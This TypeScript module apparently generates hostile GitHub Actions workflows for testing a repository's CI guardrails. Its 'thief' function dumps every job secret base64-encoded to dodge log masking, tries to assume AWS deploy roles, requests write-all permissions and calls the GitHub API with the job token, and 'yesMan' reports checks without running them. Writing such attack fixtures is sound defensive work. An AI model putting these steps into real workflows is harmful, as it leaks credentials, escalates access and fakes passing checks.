import { stringify } from "yaml";
import { accounts } from "../../stacks/estate";
import type { WorkflowStep } from "./workflow";

/** Prints all that its job has, in a form that no log masks. */
const show: WorkflowStep = {
  name: "show",
  if: "always()",
  run: `printf '%s' "$GIVEN" | base64 -w0`,
  env: { GIVEN: "${{ toJSON(secrets) }}" },
};

const takeOn = (role: string): WorkflowStep => ({
  if: "always()",
  uses: "aws-actions/configure-aws-credentials@v6",
  with: { "role-to-assume": role, "aws-region": "us-east-1" },
});

/** Asks GitHub for something by the token of the job; its log says what came of it. */
const ask = (method: string, path: string, body: object): WorkflowStep => ({
  name: `${method} ${path}`,
  run:
    `curl --silent --show-error --output "$RUNNER_TEMP/answer" --write-out '%{http_code} ' --request ${method} ` +
    `--header "authorization: Bearer $TOKEN" --data "$BODY" "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY${path}"\n` +
    `cat "$RUNNER_TEMP/answer"`,
  env: { TOKEN: "${{ github.token }}", BODY: JSON.stringify(body) },
});

export const DEPLOY_ROLE = `arn:aws:iam::${accounts.dev}:role/pulumi-deploy-dev`;
export const READ_ROLE = `arn:aws:iam::${accounts.dev}:role/github-pulumi-readonly`;
/** Its state is under the key that the App's own is under. */
export const PLATFORM_ROLE = `arn:aws:iam::${accounts.tooling}:role/github-pulumi-readonly`;

/** Environments that a pull request has no business in. */
export const GUARDED = ["automation", "dev", "prod", "prod-rollback"] as const;

/**
 * A workflow as somebody hostile writes it in a branch: it names every environment, asks for every permission and every
 * role, and uses its token for whatever might be of use.
 *
 * @param wishes what it asks GitHub for
 */
export function thief(
  name: string,
  wishes: readonly (readonly [method: string, path: string, body: object])[],
): string {
  const guarded = GUARDED.map((environment) => [environment, { environment, steps: [show] }] as const);
  const jobs = {
    ...Object.fromEntries(guarded),
    bare: { steps: [show, takeOn(READ_ROLE), takeOn(DEPLOY_ROLE)] },
    preview: { environment: "preview", steps: [show, takeOn(DEPLOY_ROLE), takeOn(PLATFORM_ROLE)] },
    token: { steps: wishes.map((wish) => ask(...wish)) },
  };
  return stringify({ name, on: { pull_request: {}, push: {} }, permissions: "write-all", jobs });
}

/** A workflow that reports checks without having looked. */
export function yesMan(name: string, checks: readonly string[]): string {
  const jobs = Object.fromEntries(checks.map((check) => [check, { name: check, steps: [{ run: "true" }] }]));
  return stringify({ name, on: { pull_request: {} }, jobs });
}
